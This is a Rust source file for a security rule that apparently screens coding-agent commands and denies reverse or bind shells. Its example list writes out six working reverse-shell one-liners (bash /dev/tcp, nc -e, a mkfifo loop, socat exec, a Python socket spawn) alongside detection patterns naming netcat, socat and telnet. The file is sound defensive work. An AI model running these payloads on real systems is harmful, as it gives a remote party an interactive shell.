use crate::analysis::Analysis;
use crate::facts;
use crate::rules::{at_cmd, util, RuleMeta};
use airlock_protocol::{Category, Decision, Finding, Severity};

pub static META: RuleMeta = RuleMeta {
    code: "REV001",
    name: "reverse-or-bind-shell",
    category: Category::ReverseShell,
    severity: Severity::Critical,
    decision: Decision::Deny,
    summary: "A shell wired to a network connection: `nc -e /bin/sh`, `ncat --exec`, `socat ... exec:sh`, `bash -i >& /dev/tcp/...`, \
              a FIFO loop between `nc` and `sh`, interpreter code that connects a socket and spawns a shell or duplicates descriptors.",
    why: "This hands an interactive shell on your machine to whoever is on the other end of the connection.",
    instead: "There is no legitimate coding-agent use. For remote access use SSH with keys you control.",
    references: &["CWE-78", "ATT&CK T1059.004", "ATT&CK T1095"],
    flags: &[
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        "nc -lvp 4444 -e /bin/bash",
    ],
    passes: &["nc -zv example.com 443", "socat TCP-LISTEN:8080,fork TCP:localhost:3000", "python3 -m http.server 8000"],
};

pub fn check(a: &Analysis, m: &RuleMeta, out: &mut Vec<Finding>) {
    for cmd in &a.cmds {
        let Some(base) = cmd.base() else { continue };
        let texts: Vec<&str> = cmd.arg_texts().collect();
        let lower_all = || texts.join(" ").to_ascii_lowercase();
        let netcat = matches!(base, "nc" | "ncat" | "netcat");
        let exec_flag = texts.iter().any(|t| {
            matches!(*t, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                || t.starts_with("--exec=")
                || t.starts_with("--sh-exec=")
        });
        let hit = if netcat && exec_flag {
            Some("connects a shell to the network with `nc -e`")
        } else if base == "socat" && {
            let all = lower_all();
            (all.contains("exec:") || all.contains("system:"))
                && (all.contains("tcp")
                    || all.contains("udp")
                    || all.contains("ssl")
                    || all.contains("openssl"))
        } {
            Some("connects a program to the network with `socat exec:`")
        } else if (facts::is_shell(base) || facts::interpreter_lang(base).is_some())
            && cmd.redirects.iter().any(|r| {
                r.target.text().starts_with("/dev/tcp/") || r.target.text().starts_with("/dev/udp/")
            })
        {
            Some("attaches a shell to a /dev/tcp connection")
        } else if let Some((_, f)) = a.code_of(cmd) {
            (f.socket && (f.dup_fds || f.spawns_shell || (f.runs_commands && f.network)))
                .then_some("runs interpreter code that connects a socket to a shell")
        } else {
            None
        };
        if let Some(msg) = hit {
            out.push(at_cmd(a, m, cmd, msg.to_string()));
            continue;
        }
        // A pipeline with both a shell reading stdin and a network program: the FIFO / telnet loop.
        if util::executes_stdin(cmd) && facts::is_shell(base) {
            if let Some(p) = cmd.pipe {
                let net = a.cmds.iter().any(|c| {
                    c.pipe.is_some_and(|q| q.pipeline == p.pipeline)
                        && c.is(&[
                            "nc",
                            "ncat",
                            "netcat",
                            "telnet",
                            "socat",
                            "openssl",
                            "gnutls-cli",
                        ])
                });
                if net {
                    out.push(at_cmd(
                        a,
                        m,
                        cmd,
                        "pipes a network connection through a shell (reverse or bind shell)".into(),
                    ));
                }
            }
        }
    }
    // `exec 5<>/dev/tcp/host/port` followed by a shell reading from that descriptor.
    let tcp_fd = a.cmds.iter().any(|c| c.is(&["exec"]) || c.name.is_none())
        && a.cmds.iter().any(|c| {
            c.redirects
                .iter()
                .any(|r| r.target.text().starts_with("/dev/tcp/"))
        });
    if tcp_fd {
        for cmd in &a.cmds {
            if cmd.base().is_some_and(facts::is_shell)
                && cmd
                    .redirects
                    .iter()
                    .any(|r| matches!(r.op, crate::ir::RedirOp::DupIn | crate::ir::RedirOp::DupOut))
            {
                out.push(at_cmd(
                    a,
                    m,
                    cmd,
                    "runs a shell on a descriptor opened to /dev/tcp".into(),
                ));
            }
        }
    }
}
